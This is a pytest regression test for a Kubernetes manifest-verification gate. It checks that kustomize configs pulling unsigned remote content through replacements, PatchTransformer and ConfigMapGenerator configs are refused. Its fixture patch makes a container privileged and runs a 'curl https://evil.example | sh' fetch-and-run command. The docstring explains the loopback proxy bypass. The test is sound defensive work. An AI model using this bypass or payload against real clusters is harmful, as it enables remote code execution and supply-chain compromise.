"""Attack: kustomize fetches unsigned content through builtin plugin configs and replacements.

The gate refuses remote ``resources``/``patches``/... in kustomizations, and runs
kustomize with HTTP(S) proxies pointing at a closed port. But Go never proxies
``localhost``/loopback, and kustomize loads ``http(s)://`` paths from places the
static check did not read:

* ``replacements: [{path: http://…}]`` in the kustomization;
* a builtin ``PatchTransformer`` (``path:``) or ``ConfigMapGenerator`` (``files:``)
  config, inline in ``transformers``/``generators`` or in a local file they name,
  or in the resources of a kustomization directory they name.

Before the fix, each rendered and was ALLOWED with the remote, unsigned patch
applied (a privileged container running ``curl | sh`` under a signed image), and the
gate's host made the request. Each must be refused before kustomize runs
(``remote-base``), and nothing may be fetched.
"""

from __future__ import annotations

import http.server
import json
import shutil
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from gate.cli import main
from tests.unit.helpers import write_policy

pytestmark = pytest.mark.skipif(
    shutil.which("kubectl") is None and shutil.which("kustomize") is None,
    reason="needs kubectl or kustomize (scripts/bootstrap.sh)",
)

PATCH = b"""apiVersion: apps/v1
kind: Deployment
metadata: {name: app}
spec:
  template:
    spec:
      containers:
      - name: c
        securityContext: {privileged: true}
        command: ["/bin/sh", "-c", "curl https://evil.example | sh"]
"""
REPLACEMENTS = b"""- source: {kind: Deployment, name: app, fieldPath: metadata.name}
  targets:
  - select: {kind: Deployment}
    fieldPaths: [spec.template.spec.containers.0.name]
"""
DEPLOYMENT = """apiVersion: apps/v1
kind: Deployment
metadata: {name: app}
spec:
  template:
    spec:
      containers:
      - name: c
        image: registry.example.com/acme/app:1.0
"""


class _Server:
    def __init__(self) -> None:
        self.requests: list[str] = []
        owner = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                owner.requests.append(self.path)
                body = {"/patch.yaml": PATCH, "/repl.yaml": REPLACEMENTS}.get(self.path, b"evil")
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()


@pytest.fixture
def server() -> Iterator[_Server]:
    s = _Server()
    try:
        yield s
    finally:
        s.httpd.shutdown()
        s.httpd.server_close()


def _cases(url: str) -> dict[str, dict[str, str]]:
    patch_transformer = (
        f"apiVersion: builtin\nkind: PatchTransformer\nmetadata: {{name: x}}\n"
        f"path: {url}/patch.yaml\n"
    )
    return {
        "replacements-path": {
            "kustomization.yaml": "resources: [deploy.yaml]\n"
            f"replacements:\n- path: {url}/repl.yaml\n"
        },
        "inline-patch-transformer": {
            "kustomization.yaml": "resources: [deploy.yaml]\ntransformers:\n- |-\n"
            + "".join(f"  {line}\n" for line in patch_transformer.splitlines())
        },
        "patch-transformer-file": {
            "kustomization.yaml": "resources: [deploy.yaml]\ntransformers: [t.yaml]\n",
            "t.yaml": patch_transformer,
        },
        "patch-transformer-in-a-directory": {
            "kustomization.yaml": "resources: [deploy.yaml]\ntransformers: [plugins]\n",
            "plugins/kustomization.yaml": "resources: [t.yaml]\n",
            "plugins/t.yaml": patch_transformer,
        },
        "configmap-generator-file": {
            "kustomization.yaml": "resources: [deploy.yaml]\ngenerators: [g.yaml]\n",
            "g.yaml": "apiVersion: builtin\nkind: ConfigMapGenerator\nmetadata: {name: cm}\n"
            f"files: [{url}/config.txt]\n",
        },
    }


CASES = sorted(_cases("http://x"))


@pytest.mark.parametrize("case", CASES)
def test_remote_load_through_a_plugin_config_is_refused(
    tmp_path: Path, server: _Server, case: str
) -> None:
    src = tmp_path / "src"
    (src / "deploy.yaml").parent.mkdir(parents=True)
    (src / "deploy.yaml").write_text(DEPLOYMENT)
    for name, text in _cases(server.url)[case].items():
        (src / name).parent.mkdir(parents=True, exist_ok=True)
        (src / name).write_text(text)
    policy = write_policy(
        tmp_path / "p.yaml",
        {"images": [{"match": ["registry.example.com/**"], "exempt": "not under test"}]},
    )
    report = tmp_path / "r.json"
    out = tmp_path / "out.yaml"
    code = main(
        ["verify", str(src), "--policy", str(policy), "--report", str(report),
         "--manifests", str(out)]
    )  # fmt: skip
    doc = json.loads(report.read_text())
    failed = [(f["check"], f["reason"]) for f in doc["findings"] if f["outcome"] == "fail"]
    assert code == 1, doc["findings"]
    assert failed == [("render", "remote-base")]
    assert not out.exists()
    assert server.requests == []


def test_local_plugin_configs_still_render(tmp_path: Path) -> None:
    """The check reads plugin configs; local paths and URLs in inline patches still work."""
    src = tmp_path / "src"
    src.mkdir()
    (src / "deploy.yaml").write_text(DEPLOYMENT)
    (src / "patch.yaml").write_text(
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: app\n"
        "  annotations: {docs: 'https://example.com/docs'}\n"
    )
    (src / "t.yaml").write_text(
        "apiVersion: builtin\nkind: PatchTransformer\nmetadata: {name: x}\npath: patch.yaml\n"
    )
    (src / "kustomization.yaml").write_text(
        "resources: [deploy.yaml]\ntransformers: [t.yaml]\n"
        "commonAnnotations: {source: 'https://example.com/acme/app'}\n"
    )
    policy = write_policy(
        tmp_path / "p.yaml",
        {"images": [{"match": ["registry.example.com/**"], "exempt": "not under test"}]},
    )
    out = tmp_path / "out.yaml"
    code = main(["verify", str(src), "--policy", str(policy), "--manifests", str(out)])
    assert code == 0
    assert "https://example.com/docs" in out.read_text()
